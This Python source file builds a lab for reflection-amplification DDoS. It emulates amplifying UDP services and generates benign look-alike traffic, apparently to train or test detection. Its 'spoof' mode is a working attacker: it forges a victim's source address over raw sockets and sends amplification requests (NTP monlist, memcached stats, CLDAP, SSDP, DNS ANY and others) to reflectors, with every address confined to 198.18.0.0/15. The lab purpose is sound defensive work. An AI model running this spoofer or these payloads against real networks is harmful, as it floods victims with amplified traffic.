#!/usr/bin/env python3
"""lab/amplifiers.py -- the reflectors, the spoofer and the normal look-alikes of lab/amplify.sh.

  amplifiers.py serve DUR NET FIRST COUNT DEVICES
        one process answering, on every address NET.FIRST .. NET.FIRST+COUNT-1 that the namespace
        holds (one wildcard socket a port, the answer sent from the address asked, IP_PKTINFO),
        the UDP protocols of reflection DDoS with answers of their real servers' sizes:
        19   chargen: 300-512 characters of the RFC 864 pattern for any datagram
        69   TFTP: a read request gets DATA block 1 (516 bytes) from a new port of the server, as
             tftpd does; resent every second, five times, until acknowledged (the retransmissions
             are TFTP's amplification); an acknowledged transfer goes on to the file's end
        111  portmap: an RPC call to PMAPPROC_DUMP gets the list of 24 mappings (~600 bytes)
        123  NTP: mode 3 gets a 48-byte mode 4 answer; mode 7 MON_GETLIST_1 (ntpd's monlist,
             gone from ntpd since 4.2.7: emulated) 10 datagrams of 440 bytes (6 entries each);
             mode 6 READVAR ~430 bytes (ntpq -c rv)
        137  NetBIOS: a node status request gets a node status answer with 8 names (~260 bytes)
        389  CLDAP: an LDAP searchRequest gets the rootDSE of a domain controller (~3,000 bytes:
             fragmented at a 1,500-byte MTU)
        1434 MS-SQL browser: 0x02/0x03 gets 0x05 and the list of 6 instances (~520 bytes)
        1900 SSDP: a unicast M-SEARCH gets 3 answers (~310 bytes each: root device, device type,
             service); a multicast one (239.255.255.250) 3 answers from each of the first
             DEVICES addresses, spread over its MX seconds, as UPnP devices do
        11211 memcached (UDP frame header): "stats" gets ~1,200 bytes, "get K" a 7,000-byte
             value in 5 datagrams of at most 1,400 bytes (memcached's own UDP split)
        DNS (dnsmasq) and SNMP (snmpd) are real daemons beside it.
  amplifiers.py spoof DUR SEED VICTIM PORT VECTOR RATE COUNT REFLECTOR...
        COUNT requests of VECTOR (dns-any, ntp-monlist, snmp-getbulk, ssdp, cldap, mssql, netbios,
        portmap, chargen, tftp, memcached) at RATE a second from VICTIM (forged, raw socket with
        IP_HDRINCL) to the REFLECTORs in turn; PORT the victim's port, 0: a random one each
        datagram (booters' scapy scripts); tftp asks for pxelinux.0, or with TFTP_FILE=none in
        the environment for a file no server has (lab/tftpreflect.sh)
  amplifiers.py normal DUR SEED KIND ARG...
        resolver SERVERS      a recursive resolver asking many authoritative servers (A, TXT,
                              EDNS 4096), a new port each question, 20-40 a second
        ntp SERVERS           an NTP monitor: mode 3 to every server every 2-4 s from one port, and
                              ntpq -c rv (mode 6) to each once a round
        ssdp                  a control point: a multicast M-SEARCH ssdp:all three times, every 15 s
        tftp SERVER FILES     a PXE client reading FILES files (64 KiB each) from SERVER
        cldap SERVERS         domain-joined Windows hosts' DC locator pings (CLDAP netlogon) to
                              every DC every 5-10 s
Every address is checked to lie in 198.18.0.0/15; every loop ends after DUR seconds."""
import ipaddress
import os
import random
import selectors
import socket
import struct
import sys
import time

LAB = ipaddress.ip_network("198.18.0.0/15")
IP_PKTINFO = getattr(socket, "IP_PKTINFO", 8)
GROUP = "239.255.255.250"


def lab(addr):
    if ipaddress.ip_address(addr) not in LAB:
        sys.exit(f"{addr} is not in {LAB}")
    return addr


# ---- the requests (attacker's and normal clients') ----

def dns_query(qid, name, qtype, edns=True):
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 1 if edns else 0)
    for part in name.split("."):
        q += bytes([len(part)]) + part.encode()
    q += b"\x00" + struct.pack(">HH", qtype, 1)
    if edns:
        q += b"\x00" + struct.pack(">HHIH", 41, 4096, 0, 0)
    return q


def ber(tag, body):
    n = len(body)
    if n < 0x80:
        return bytes([tag, n]) + body
    if n < 0x100:
        return bytes([tag, 0x81, n]) + body
    return bytes([tag, 0x82]) + struct.pack(">H", n) + body


def snmp_getbulk(rid, reps=40):
    oid = ber(0x06, bytes.fromhex("2b060102"))  # 1.3.6.1.2 (mib-2)
    vbl = ber(0x30, ber(0x30, oid + b"\x05\x00"))
    pdu = ber(0xA5, ber(0x02, struct.pack(">I", rid)) + b"\x02\x01\x00" + ber(0x02, bytes([reps])) + vbl)
    return ber(0x30, b"\x02\x01\x01" + ber(0x04, b"public") + pdu)


def ldap_search(mid):
    flt = ber(0x87, b"objectclass")  # (objectclass=*)
    req = ber(0x63, ber(0x04, b"") + b"\x0a\x01\x00\x0a\x01\x00\x02\x01\x00\x02\x01\x00\x01\x01\x00" + flt + ber(0x30, b""))
    return ber(0x30, b"\x02\x01" + bytes([mid & 0x7F]) + req)


def request(vector, rng):
    if vector == "dns-any":
        return dns_query(rng.randrange(65536), "big.example", 255)
    if vector == "ntp-monlist":
        return bytes([0x17, 0x00, 0x03, 0x2A]) + bytes(4)
    if vector == "snmp-getbulk":
        return snmp_getbulk(rng.getrandbits(31))
    if vector == "ssdp":
        return b"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n"
    if vector == "cldap":
        return ldap_search(rng.randrange(1, 127))
    if vector == "mssql":
        return b"\x02"
    if vector == "netbios":
        return struct.pack("!HHHHHH", rng.randrange(65536), 0, 1, 0, 0, 0) + b"\x20" + b"CKAA" * 8 + b"\x00\x00\x21\x00\x01"
    if vector == "portmap":
        return struct.pack("!IIIIII", rng.getrandbits(32), 0, 2, 100000, 2, 4) + bytes(16)
    if vector == "chargen":
        return b"\x01"
    if vector == "tftp":
        # TFTP_FILE=none (lab/tftpreflect.sh): a file no server has, answered by an ERROR
        name = b"boot/pxe-missing.img" if os.environ.get("TFTP_FILE") == "none" else b"pxelinux.0"
        return b"\x00\x01" + name + b"\x00octet\x00"
    if vector == "memcached":
        return struct.pack("!HHHH", rng.randrange(65536), 0, 1, 0) + b"stats\r\n"
    sys.exit(f"unknown vector {vector}")


PORT = {"dns-any": 53, "ntp-monlist": 123, "snmp-getbulk": 161, "ssdp": 1900, "cldap": 389, "mssql": 1434,
        "netbios": 137, "portmap": 111, "chargen": 19, "tftp": 69, "memcached": 11211}


# ---- the answers ----

def chargen(rng):
    line = bytes(range(33, 127)) * 2
    out, i = b"", rng.randrange(94)
    n = rng.randrange(300, 513)
    while len(out) < n:
        out += line[i:i + 72] + b"\r\n"
        i = (i + 1) % 94
    return out[:n]


def portmap_dump(d):
    if len(d) < 24:
        return None
    xid = d[:4]
    body = b""
    progs = [(100000, 4, 6, 111), (100000, 3, 6, 111), (100000, 2, 6, 111), (100000, 4, 17, 111),
             (100000, 3, 17, 111), (100000, 2, 17, 111), (100005, 1, 17, 20048), (100005, 1, 6, 20048),
             (100005, 2, 17, 20048), (100005, 2, 6, 20048), (100005, 3, 17, 20048), (100005, 3, 6, 20048),
             (100003, 3, 6, 2049), (100003, 4, 6, 2049), (100227, 3, 6, 2049), (100003, 3, 17, 2049),
             (100227, 3, 17, 2049), (100021, 1, 17, 44287), (100021, 3, 17, 44287), (100021, 4, 17, 44287),
             (100021, 1, 6, 38663), (100021, 3, 6, 38663), (100021, 4, 6, 38663), (100024, 1, 17, 51035)]
    for p in progs:
        body += struct.pack("!IIIII", 1, *p)
    return xid + struct.pack("!IIIII", 1, 0, 0, 0, 0) + body + struct.pack("!I", 0)


def ntp_answer(d, rng):
    if not d:
        return []
    mode = d[0] & 7
    if mode == 3 and len(d) >= 48:
        now = time.time() + 2208988800
        ts = struct.pack("!II", int(now), int((now % 1) * 2**32))
        return [bytes([0x24, 2, d[2], 0xE9]) + bytes(8) + b"\xc6\x12\x00\x01" + ts + d[40:48] + ts + ts]
    if mode == 7 and len(d) >= 4 and d[3] == 0x2A:
        out = []
        for seq in range(10):
            hdr = bytes([0x97 if seq < 9 else 0x17, seq, 3, 0x2A]) + struct.pack("!HH", 6, 72)
            ent = b"".join(struct.pack("!IIIIIIHBB", rng.getrandbits(20), rng.getrandbits(20), 0, 1000 + i,
                                       0xC6120000 | rng.getrandbits(16), 0xC6120001, 0, 3, 4) + bytes(40)
                           for i in range(6))
            out.append(hdr + ent)
        return out
    if mode == 6 and len(d) >= 12:
        text = (b'version="ntpd 4.2.8p15@1.3728-o", processor="x86_64", system="Linux/6.1.0", leap=00, '
                b'stratum=2, precision=-23, rootdelay=1.028, rootdisp=12.431, refid=198.18.0.1, '
                b'reftime=0xe9e1a2b3.4c5d6e7f, clock=0xe9e1a3c4.1a2b3c4d, peer=51012, tc=10, mintc=3, '
                b'offset=-0.091, frequency=-12.453, sys_jitter=0.094, clk_jitter=0.071, clk_wander=0.004, '
                b'tai=37, leapsec=201701010000, expire=202612280000')
        return [bytes([0x16, 0x82]) + d[2:4] + bytes(4) + struct.pack("!HH", 0, len(text)) + text + bytes(-len(text) % 4)]
    return []


def nbstat():
    names = [b"LABSERVER", b"LABSERVER", b"WORKGROUP", b"WORKGROUP", b"LABSERVER", b"__MSBROWSE__",
             b"WORKGROUP", b"ADMIN"]
    rd = bytes([len(names)])
    for i, n in enumerate(names):
        rd += n.ljust(15)[:15] + bytes([[0x00, 0x20, 0x00, 0x1E, 0x03, 0x01, 0x1D, 0x03][i]]) + b"\x04\x00"
    rd += bytes.fromhex("02420a0b0c0d") + bytes(40)
    return rd


def nbns_answer(d):
    if len(d) < 50 or d[2] & 0x80 or struct.unpack("!H", d[46:48])[0] != 0x21:
        return None
    rd = nbstat()
    return d[:2] + b"\x84\x00\x00\x00\x00\x01\x00\x00\x00\x00" + d[12:50] + b"\x00\x00\x00\x00" + struct.pack("!H", len(rd)) + rd


def cldap_answer(d):
    if len(d) < 7 or d[0] != 0x30:
        return None
    mid = 1
    try:
        i = 2 if d[1] < 0x80 else 2 + (d[1] & 0x7F)
        if d[i] == 0x02:
            mid = d[i + 2]
    except IndexError:
        pass
    attrs = b""
    for name, vals in [("currentTime", ["20261201033700.0Z"]), ("subschemaSubentry", ["CN=Aggregate,CN=Schema,CN=Configuration,DC=lab,DC=example"]),
                       ("dsServiceName", ["CN=NTDS Settings,CN=DC01,CN=Servers,CN=Default-First-Site-Name,CN=Sites,CN=Configuration,DC=lab,DC=example"]),
                       ("namingContexts", ["DC=lab,DC=example", "CN=Configuration,DC=lab,DC=example", "CN=Schema,CN=Configuration,DC=lab,DC=example",
                                           "DC=DomainDnsZones,DC=lab,DC=example", "DC=ForestDnsZones,DC=lab,DC=example"]),
                       ("supportedControl", [f"1.2.840.113556.1.4.{n}" for n in (319, 801, 473, 528, 417, 619, 841, 529, 805, 521, 970, 1338, 474, 1339,
                                                                                1340, 1413, 2064, 2065, 2066, 2090, 2205, 2204, 2206, 2211, 2239, 2255, 2256, 2309, 2330, 2354)]),
                       ("supportedLDAPPolicies", ["MaxPoolThreads", "MaxPercentDirSyncRequests", "MaxDatagramRecv", "MaxReceiveBuffer", "InitRecvTimeout",
                                                  "MaxConnections", "MaxConnIdleTime", "MaxPageSize", "MaxBatchReturnMessages", "MaxQueryDuration",
                                                  "MaxDirSyncDuration", "MaxTempTableSize", "MaxResultSetSize", "MinResultSets", "MaxResultSetsPerConn",
                                                  "MaxNotificationPerConn", "MaxValRange", "MaxValRangeTransitive", "ThreadMemoryLimit", "SystemMemoryLimitPercent"]),
                       ("supportedCapabilities", [f"1.2.840.113556.1.4.{n}" for n in (800, 1670, 1791, 1935, 2080, 2237)]),
                       ("supportedSASLMechanisms", ["GSSAPI", "GSS-SPNEGO", "EXTERNAL", "DIGEST-MD5"]),
                       ("dnsHostName", ["DC01.lab.example"]), ("ldapServiceName", ["lab.example:dc01$@LAB.EXAMPLE"]),
                       ("serverName", ["CN=DC01,CN=Servers,CN=Default-First-Site-Name,CN=Sites,CN=Configuration,DC=lab,DC=example"]),
                       ("supportedLDAPVersion", ["3", "2"]), ("highestCommittedUSN", ["1234567"]),
                       ("domainFunctionality", ["7"]), ("forestFunctionality", ["7"]), ("domainControllerFunctionality", ["7"])]:
        attrs += ber(0x30, ber(0x04, name.encode()) + ber(0x31, b"".join(ber(0x04, v.encode()) for v in vals)))
    entry = ber(0x30, b"\x02\x01" + bytes([mid]) + ber(0x64, ber(0x04, b"") + ber(0x30, attrs)))
    done = ber(0x30, b"\x02\x01" + bytes([mid]) + ber(0x65, b"\x0a\x01\x00\x04\x00\x04\x00"))
    return entry + done


def mssql_answer(d):
    if not d or d[0] not in (2, 3):
        return None
    text = "".join(f"ServerName;SQL01;InstanceName;{n};IsClustered;No;Version;15.0.2000.5;tcp;{p};np;\\\\SQL01\\pipe\\MSSQL${n}\\sql\\query;;"
                   for n, p in [("MSSQLSERVER", 1433), ("SQLEXPRESS", 49170), ("SHAREPOINT", 49171), ("REPORTING", 49172),
                                ("BACKUP", 49173), ("DEV", 49174)]).encode()
    return b"\x05" + struct.pack("<H", len(text)) + text


def ssdp_answers(me, stamp):
    uuid = f"uuid:{ipaddress.ip_address(me).packed.hex()}-1dd2-11b2-a000-02180000{stamp:04x}"
    base = (f"HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=1800\r\nDATE: {time.strftime('%a, %d %b %Y %H:%M:%S GMT', time.gmtime())}\r\n"
            f"EXT:\r\nLOCATION: http://{me}:49152/description.xml\r\nSERVER: Linux/4.9 UPnP/1.0 MiniUPnPd/2.1\r\n")
    out = []
    for st, usn in [("upnp:rootdevice", f"{uuid}::upnp:rootdevice"),
                    ("urn:schemas-upnp-org:device:InternetGatewayDevice:1", f"{uuid}::urn:schemas-upnp-org:device:InternetGatewayDevice:1"),
                    ("urn:schemas-upnp-org:service:WANIPConnection:1", f"{uuid}::urn:schemas-upnp-org:service:WANIPConnection:1")]:
        out.append((base + f"ST: {st}\r\nUSN: {usn}\r\nBOOTID.UPNP.ORG: 1\r\nCONFIGID.UPNP.ORG: 1337\r\n\r\n").encode())
    return out


def memcached_answer(d):
    if len(d) < 9:
        return []
    hdr, cmd = d[:2], d[8:]
    if cmd.startswith(b"stats"):
        body = "".join(f"STAT {k} {v}\r\n" for k, v in [
            ("pid", 812), ("uptime", 8123412), ("time", int(time.time())), ("version", "1.6.18"), ("libevent", "2.1.12-stable"),
            ("pointer_size", 64), ("rusage_user", "1201.431234"), ("rusage_system", "2304.123456"), ("max_connections", 1024),
            ("curr_connections", 12), ("total_connections", 123456), ("rejected_connections", 0), ("connection_structures", 14),
            ("response_obj_oom", 0), ("response_obj_count", 1), ("response_obj_bytes", 65536), ("read_buf_oom", 0),
            ("reserved_fds", 20), ("cmd_get", 91234567), ("cmd_set", 1234567), ("cmd_flush", 0), ("cmd_touch", 0),
            ("cmd_meta", 0), ("get_hits", 81234567), ("get_misses", 10000000), ("get_expired", 1234), ("get_flushed", 0),
            ("delete_misses", 12), ("delete_hits", 345), ("incr_misses", 0), ("incr_hits", 0), ("decr_misses", 0),
            ("decr_hits", 0), ("cas_misses", 0), ("cas_hits", 0), ("cas_badval", 0), ("touch_hits", 0), ("touch_misses", 0),
            ("store_too_large", 0), ("store_no_memory", 0), ("auth_cmds", 0), ("auth_errors", 0), ("bytes_read", 123456789012),
            ("bytes_written", 987654321098), ("limit_maxbytes", 67108864), ("accepting_conns", 1), ("threads", 4),
            ("conn_yields", 0), ("hash_power_level", 16), ("hash_bytes", 524288), ("bytes", 61234567), ("curr_items", 123456),
            ("total_items", 1234567), ("evictions", 1234)]).encode() + b"END\r\n"
        parts = [body]
    elif cmd.startswith(b"get "):
        key = cmd[4:].split(b"\r")[0]
        body = b"VALUE " + key + b" 0 7000\r\n" + bytes(7000) + b"\r\nEND\r\n"
        parts = [body[i:i + 1400] for i in range(0, len(body), 1400)]
    else:
        return []
    return [hdr + struct.pack("!HHH", i, len(parts), 0) + p for i, p in enumerate(parts)]


def pktinfo_dst(anc):
    for level, typ, data in anc:
        if level == socket.IPPROTO_IP and typ == IP_PKTINFO and len(data) >= 12:
            return socket.inet_ntoa(data[8:12])
    return None


def serve(dur, net, first, count, devices):
    import heapq
    rng = random.Random(first)
    mine = [lab(f"{net}.{first + i}") for i in range(count)]
    mineset = set(mine)
    sel = selectors.DefaultSelector()
    socks = {}
    for port in (19, 69, 111, 123, 137, 389, 1434, 1900, 11211):
        k = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        k.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        k.setsockopt(socket.IPPROTO_IP, IP_PKTINFO, 1)
        k.bind(("0.0.0.0", port))
        if port == 1900:
            k.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(GROUP) + socket.inet_aton(mine[0]))
        k.setblocking(False)
        sel.register(k, selectors.EVENT_READ, ("svc", port))
        socks[port] = k
    queue = []  # (when, seq, socket, data, src, peer)
    seq = 0
    tftp = {}  # transfer socket -> state

    def send(k, data, src, peer):
        try:
            k.sendmsg([data], [(socket.IPPROTO_IP, IP_PKTINFO, struct.pack("=I4s4s", 0, socket.inet_aton(src), bytes(4)))], 0, peer)
        except OSError:
            pass

    def tftp_block(st):
        off = (st["block"] - 1) * 512
        return struct.pack("!HH", 3, st["block"] & 0xFFFF) + st["data"][off:off + 512]

    end = time.time() + dur
    while time.time() < end:
        now = time.time()
        while queue and queue[0][0] <= now:
            _, _, k, data, src, peer = heapq.heappop(queue)
            send(k, data, src, peer)
        for k, st in list(tftp.items()):
            if now >= st["next"]:
                if st["tries"] >= 6 or st["done"]:
                    sel.unregister(k)
                    k.close()
                    del tftp[k]
                    continue
                k.sendto(tftp_block(st), st["peer"])
                st["tries"] += 1
                st["next"] = now + 1.0
        timeout = 0.2 if not queue else max(0.0, min(0.2, queue[0][0] - now))
        for key, _ in sel.select(timeout):
            k = key.fileobj
            kind, port = key.data
            if kind == "tftp":
                st = tftp[k]
                try:
                    d, peer = k.recvfrom(2048)
                except OSError:
                    continue
                if len(d) >= 4 and d[:2] == b"\x00\x04" and struct.unpack("!H", d[2:4])[0] == st["block"] & 0xFFFF:
                    if st["block"] * 512 > len(st["data"]):
                        st["done"] = True
                        st["next"] = 0
                        continue
                    st["block"] += 1
                    st["tries"] = 0
                    k.sendto(tftp_block(st), st["peer"])
                    st["tries"] += 1
                    st["next"] = time.time() + 1.0
                continue
            try:
                d, anc, _, peer = k.recvmsg(4096, 256)
            except OSError:
                continue
            dst = pktinfo_dst(anc)
            if lab(peer[0]) in mineset:
                continue
            if port == 1900 and dst == GROUP:
                if b"M-SEARCH" not in d:
                    continue
                for i, me in enumerate(mine[:devices]):
                    at = time.time() + rng.uniform(0.0, 1.0)
                    for j, a in enumerate(ssdp_answers(me, i)):
                        seq += 1
                        heapq.heappush(queue, (at + 0.01 * j, seq, k, a, me, peer))
                continue
            if dst not in mineset:
                continue
            out = []
            if port == 19:
                out = [chargen(rng)]
            elif port == 69:
                if d[:2] == b"\x00\x01" and len(tftp) < 2000:
                    t = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                    t.bind((dst, 0))
                    t.setblocking(False)
                    name = d[2:].split(b"\x00")[0]
                    size = 65536 if name != b"pxelinux.0" else 42 * 512 + 100
                    st = {"peer": peer, "block": 1, "data": os.urandom(size),
                          "tries": 0, "next": 0.0, "done": False}
                    tftp[t] = st
                    sel.register(t, selectors.EVENT_READ, ("tftp", 0))
                continue
            elif port == 111:
                a = portmap_dump(d)
                out = [a] if a else []
            elif port == 123:
                out = ntp_answer(d, rng)
            elif port == 137:
                a = nbns_answer(d)
                out = [a] if a else []
            elif port == 389:
                a = cldap_answer(d)
                out = [a] if a else []
            elif port == 1434:
                a = mssql_answer(d)
                out = [a] if a else []
            elif port == 1900:
                if d.startswith(b"M-SEARCH"):
                    out = ssdp_answers(dst, mine.index(dst))
            elif port == 11211:
                out = memcached_answer(d)
            for a in out:
                send(k, a, dst, peer)


# ---- the spoofer ----

def csum(b):
    if len(b) % 2:
        b += b"\x00"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def spoof(dur, seed, victim, vport, vector, rate, count, reflectors):
    rng = random.Random(seed)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    vip = socket.inet_aton(lab(victim))
    refl = [(lab(r), socket.inet_aton(r)) for r in reflectors]
    dport = PORT[vector]
    end = time.time() + dur
    t0 = time.time()
    for n in range(count):
        if time.time() > end:
            break
        r, rb = refl[n % len(refl)]
        payload = request(vector, rng)
        sport = vport or rng.randrange(1024, 65536)
        udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0)
        pseudo = vip + rb + struct.pack("!BBH", 0, 17, 8 + len(payload))
        c = csum(pseudo + udp + payload) or 0xFFFF
        udp = udp[:6] + struct.pack("!H", c)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp) + len(payload), rng.randrange(65536), 0, 64, 17, 0, vip, rb)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        try:
            s.sendto(ip + udp + payload, (r, 0))
        except OSError:
            pass
        wait = t0 + (n + 1) / rate - time.time()
        if wait > 0:
            time.sleep(wait)


# ---- normal look-alikes ----

def ask(sock, data, dst, timeout, many=False):
    sock.sendto(data, dst)
    got = 0
    deadline = time.time() + timeout
    while True:
        left = deadline - time.time()
        if left <= 0:
            return got
        sock.settimeout(left)
        try:
            sock.recvfrom(65535)
            got += 1
            if not many:
                return got
        except OSError:
            return got


def normal(dur, seed, kind, args):
    rng = random.Random(seed)
    end = time.time() + dur
    if kind == "resolver":
        servers = [lab(a) for a in args[0].split(",")]
        while time.time() < end:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                name, qt = rng.choice([("www.example", 1), ("big.example", 16), ("mail.example", 1), ("big.example", 16)])
                ask(s, dns_query(rng.randrange(65536), name, qt), (rng.choice(servers), 53), 1.0)
            time.sleep(rng.uniform(0.025, 0.05))
    elif kind == "ntp":
        servers = [lab(a) for a in args[0].split(",")]
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        while time.time() < end:
            for h in servers:
                ask(s, bytes([0x23]) + bytes(39) + os.urandom(8), (h, 123), 0.3)
            for h in servers:
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as q:
                    ask(q, struct.pack("!BBHHHHH", 0x16, 0x02, rng.randrange(65536), 0, 0, 0, 0), (h, 123), 0.3)
            time.sleep(rng.uniform(2, 4))
    elif kind == "ssdp":
        while time.time() < end:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 2)
                for _ in range(3):
                    ask(s, request("ssdp", rng), (GROUP, 1900), 0.6, many=True)
            time.sleep(rng.uniform(12, 18))
    elif kind == "tftp":
        server, files = lab(args[0]), int(args[1])
        for f in range(files):
            if time.time() > end:
                break
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.settimeout(2)
                s.sendto(b"\x00\x01" + f"boot/file{f}.img".encode() + b"\x00octet\x00", (server, 69))
                block = 1
                while True:
                    try:
                        d, peer = s.recvfrom(1024)
                    except OSError:
                        break
                    if d[:2] != b"\x00\x03":
                        break
                    s.sendto(b"\x00\x04" + d[2:4], peer)
                    if len(d) < 516:
                        break
                    block += 1
            time.sleep(rng.uniform(0.5, 1.5))
    elif kind == "cldap":
        servers = [lab(a) for a in args[0].split(",")]
        while time.time() < end:
            for h in servers:
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                    ask(s, ldap_search(rng.randrange(1, 127)), (h, 389), 0.5)
            time.sleep(rng.uniform(5, 10))
    else:
        sys.exit(__doc__)


def main():
    a = sys.argv
    if len(a) == 7 and a[1] == "serve":
        serve(float(a[2]), a[3], int(a[4]), int(a[5]), int(a[6]))
    elif len(a) >= 10 and a[1] == "spoof":
        spoof(float(a[2]), int(a[3]), a[4], int(a[5]), a[6], float(a[7]), int(a[8]), a[9:])
    elif len(a) >= 5 and a[1] == "normal":
        normal(float(a[2]), int(a[3]), a[4], a[5:])
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
